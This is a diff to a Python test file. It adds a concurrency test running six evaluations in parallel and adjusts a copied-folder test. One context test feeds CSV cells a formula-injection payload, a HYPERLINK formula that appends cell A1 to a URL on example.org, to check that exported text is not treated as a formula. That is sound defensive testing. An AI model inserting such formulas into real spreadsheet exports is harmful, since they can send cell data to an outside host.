@@ -6,6 +6,7 @@ import math
 import shutil
 import statistics
 import time
+from concurrent.futures import ThreadPoolExecutor
 from pathlib import Path
 
 import pandas as pd
@@ -97,6 +98,16 @@ def test_columns_of_different_settings_are_pointed_out(models: Path, tmp_path: P
     )
 
 
+def test_two_evaluations_at_once_both_succeed(models: Path, tmp_path: Path) -> None:
+    evaluate(models, tmp_path / "alone")
+    with ThreadPoolExecutor(2) as pool:
+        for done in [pool.submit(evaluate, models, tmp_path / "out") for _ in range(6)]:
+            done.result()
+    for path in (tmp_path / "alone").iterdir():
+        assert (tmp_path / "out" / path.name).read_bytes() == path.read_bytes()
+    assert len(list((tmp_path / "out").iterdir())) == 6
+
+
 @pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r"])
 def test_a_text_in_a_csv_is_no_formula(tmp_path: Path, sign: str) -> None:
     text = sign + 'HYPERLINK("https://example.org?"&A1, "x")'
@@ -185,8 +196,8 @@ def test_runs_of_one_hash_under_several_names_stay_apart(models: Path, tmp_path:
 
 
 def test_a_folder_that_was_copied_is_named(models: Path) -> None:
-    shutil.copytree(models / "synthetic/tiny/m2", models / "synthetic/tiny-backup/m2")
-    with pytest.raises(UserError, match=r"tiny-backup/m2: holds runs of synthetic/tiny"):
+    shutil.copytree(models / "synthetic/tiny/m2", models / "synthetic-backup/tiny/m2")
+    with pytest.raises(UserError, match=r"tiny/m2: holds runs of synthetic/tiny"):
         load_results(models)
 
 
